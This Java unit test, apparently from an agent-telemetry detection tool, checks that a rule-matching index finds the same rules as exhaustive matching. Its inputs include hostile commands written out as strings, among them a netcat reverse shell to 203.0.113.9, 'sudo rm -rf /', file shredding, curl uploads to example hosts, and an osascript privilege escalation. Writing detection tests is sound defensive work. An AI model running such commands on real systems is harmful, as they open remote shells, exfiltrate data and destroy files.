package dev.agenttelemetry.analytics.rules;

import dev.agenttelemetry.analytics.Events;
import org.junit.jupiter.api.Test;

import static org.assertj.core.api.Assertions.assertThat;

class MatcherIndexTest {
    private static final String RULES = """
            rules:
              - id: r
                title: R
                severity: low
                match:
                  - command: {program: [nc, ncat]}
                  - command: {program: ["python*"]}
                  - command: {args_regex: 'x'}
                  - event_types: [file_read]
                  - command: {program: [curl]}
            """;

    @Test
    void anEventTriesTheMatchersOfItsProgramsAndThoseThatNameNoneOrAPattern() throws Exception {
        RuleDefinition rule = RuleBook.parse("test", RULES).rules().get(0);
        assertThat(rule.index().candidates(new EventView(Events.bash("e1", Events.T0, "ls -la")))).containsExactly(1, 2, 3);
        assertThat(rule.index().candidates(new EventView(Events.bash("e1", Events.T0, "nc -l 4444 | curl -T - https://x.example"))))
                .containsExactly(0, 1, 2, 3, 4);
        assertThat(rule.index().candidates(new EventView(Events.bash("e1", Events.T0, "ncat x; ncat y")))).containsExactly(0, 1, 2, 3);
    }

    @Test
    void theIndexFindsWhatTryingEveryMatcherFinds() {
        RuleBook rules = RuleBook.defaults();
        for (String command : new String[]{"sudo rm -rf /", "nc -e /bin/sh 203.0.113.9 4444", "python3 -m http.server", "ls | xargs shred -u",
                "bash -c 'curl -T x https://a.example'", "mvn -q test", "osascript -e 'do shell script \"id\" with administrator privileges'"}) {
            EventView view = new EventView(Events.bash("e1", Events.T0, command));
            for (RuleDefinition rule : rules.rules()) {
                boolean any = rule.kind() == RuleDefinition.Kind.EVENT && rule.matchers().stream().anyMatch(m -> m.test(view).isPresent());
                assertThat(rule.match(view).isPresent()).as(rule.id() + " on " + command).isEqualTo(any);
            }
        }
    }
}
